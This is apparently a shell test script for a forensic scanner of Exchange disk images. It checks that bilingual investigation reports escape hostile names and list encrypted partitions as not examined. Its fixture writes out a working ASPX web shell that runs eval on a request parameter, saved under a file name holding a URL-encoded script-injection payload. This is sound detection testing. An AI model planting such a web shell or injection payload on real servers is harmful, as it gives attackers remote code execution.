#!/bin/sh
# The investigation report in the bundle and in --out: German and English,
# one self-contained page, attacker-chosen names escaped.
. "$TOP/tests/lib/tap.sh"

# A web shell whose name is markup, beside the usual Exchange tree.
{
	cat "$TOP/tests/fixtures/exchange-basic.spec"
	echo 'file \inetpub\wwwroot\aspnet_client\%u003Cscript%u003Ealert(1)%u003C%u002Fscript%u003E.aspx text:<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>\r\n'
} >"$TMP/hostile.spec"
mkimage "$TMP/hostile.spec" "$TMP/h.img" || ok 1 "fixture builds"
IMAGES="$TMP/h.img"

run scan "$TMP/h.img" --lang de --case "AZ 7/26" --examiner "<b>Mallory</b>" \
    --out "$TMP/de" --bundle "$TMP/de.zip"
[ "$RC" -eq 1 ]; ok $? "scan --lang de finishes with findings (exit $RC)"
mkdir "$TMP/x" && (cd "$TMP/x" && unzip -q ../de.zip report.html report.txt)
[ -s "$TMP/x/report.html" ] && [ -s "$TMP/x/report.txt" ]
ok $? "report.html and report.txt are in the bundle"
cmp -s "$TMP/x/report.txt" "$TMP/de/report.txt" || diag "bundle and --out reports differ (collected list)"
grep -q 'Untersuchungsprotokoll' "$TMP/x/report.txt" && grep -q 'Befund' "$TMP/x/report.html"
ok $? "--lang de: the report is in German"
grep -q 'script' "$TMP/x/report.html" && ! grep -q '<script' "$TMP/x/report.html"
ok $? "the shell named <script> is listed, escaped, and the page has no script"
! grep -q '<b>Mallory' "$TMP/x/report.html"; ok $? "the examiner field is escaped too"
! grep -Eqi '(src|href)=|<(img|link|iframe|object|embed)' "$TMP/x/report.html"
ok $? "no external references: one self-contained page"
grep -q 'AZ 7/26' "$TMP/x/report.txt"; ok $? "the case number is recorded"
grep -q 'sha256sum -c SHA256SUMS' "$TMP/x/report.txt"; ok $? "the report says how to verify the bundle"
grep -q 'EXH_.*\|supp0rt.aspx' "$TMP/x/report.txt"; ok $? "findings with their evidence are in the report"
grep -q 'secret.bin' "$TMP/x/report.txt"; ok $? "the encrypted, unexamined file is listed (no silent gaps)"

run scan "$TMP/h.img" --lang en --out "$TMP/en"
grep -q 'Investigation record' "$TMP/en/report.txt" && ! grep -q 'Untersuchungsprotokoll' "$TMP/en/report.txt"
ok $? "--lang en: the report is in English"
LANGUAGE= LC_ALL= LANG=de_DE.UTF-8 run scan "$TMP/h.img" --out "$TMP/loc"
grep -q 'Untersuchungsprotokoll' "$TMP/loc/report.txt"; ok $? "without --lang the locale decides (de_DE)"
run scan "$TMP/h.img" --lang fr
[ "$RC" -eq 2 ]; ok $? "an unknown language is a usage error"
mkimage "$TOP/tests/fixtures/basic.spec" "$TMP/basic.img" || ok 1 "basic fixture builds"
IMAGES="$IMAGES $TMP/basic.img"
run scan "$TMP/basic.img" --lang en --out "$TMP/b"
grep -q 'partition 4 (BitLocker): not examined: BitLocker-encrypted' "$TMP/b/report.txt" &&
    grep -q 'partition 4 (BitLocker): not examined' "$TMP/err"
ok $? "a BitLocker partition is on the record as not examined (report and terminal)"
report_unchanged
done_testing
